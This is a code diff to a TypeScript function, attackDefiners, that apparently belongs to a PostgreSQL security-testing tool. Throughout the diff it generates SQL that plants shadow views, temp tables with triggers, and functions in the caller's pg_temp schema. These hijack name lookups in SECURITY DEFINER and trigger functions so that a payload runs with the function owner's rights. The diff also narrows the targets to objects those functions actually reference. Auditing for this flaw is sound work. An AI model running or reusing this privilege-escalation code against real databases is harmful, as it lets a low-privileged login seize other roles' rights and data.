@@ -16,15 +16,20 @@ const PAYLOAD = `
   create function pg_temp.payload_trigger() returns trigger language plpgsql as $$ begin perform pg_temp.payload(); return new; end $$;
 `;
 
+/** Tables and views that a function with the owner's rights, or a trigger that it sets off, names. */
+const IS_USED = `relnamespace = 'public'::regnamespace and has_table_privilege(oid, 'select') and exists (
+  select from pg_proc p where pronamespace = 'public'::regnamespace and (prosecdef or prorettype = 'trigger'::regtype)
+    and prosrc ~ ('\\m' || relname || '\\M'))`;
+
 /** Objects in the caller's temporary schema with the names of those that the functions use. */
 const SHADOWS = {
   views: `
     select format('create view pg_temp.%I as select * from public.%1$I where pg_temp.payload()', relname)
-    from pg_class where relnamespace = 'public'::regnamespace and relkind in ('r', 'v') and has_table_privilege(oid, 'select')`,
+    from pg_class where relkind in ('r', 'v') and ${IS_USED}`,
   tables: `
     select format('create temp table %I as select * from public.%1$I;
       create trigger shadow before insert or update or delete on pg_temp.%1$I for each row execute function pg_temp.payload_trigger()', relname)
-    from pg_class where relnamespace = 'public'::regnamespace and relkind = 'r' and has_table_privilege(oid, 'select')`,
+    from pg_class where relkind = 'r' and ${IS_USED}`,
   functions: `
     select format('create function pg_temp.%I(%s) returns %s language plpgsql as $f$ begin perform pg_temp.payload(); return null; end $f$',
       proname, pg_get_function_identity_arguments(oid), prorettype::regtype)
@@ -45,13 +50,17 @@ const SHADOWS = {
  * a function may fail on the others first, or all functions or operators.
  *
  * @param url the address with the application's login, which may create temporary objects
+ * @param kinds which kinds of objects; default: all
  * @returns a line for each call in which code of the caller ran with other rights
  */
-export async function attackDefiners(url: string): Promise<string[]> {
+export async function attackDefiners(
+  url: string,
+  kinds = Object.keys(SHADOWS) as (keyof typeof SHADOWS)[],
+): Promise<string[]> {
   const found: string[] = [];
-  for (const [kind, statement] of Object.entries(SHADOWS)) {
+  for (const kind of kinds) {
     const shadows = await withClient(url, async (client) => {
-      const { rows } = await client.query<[string]>({ text: statement, rowMode: 'array' });
+      const { rows } = await client.query<[string]>({ text: SHADOWS[kind], rowMode: 'array' });
       return rows.map(([shadow]) => shadow);
     });
     if (shadows.length === 0) throw new Error(`there are no ${kind} to shadow`);
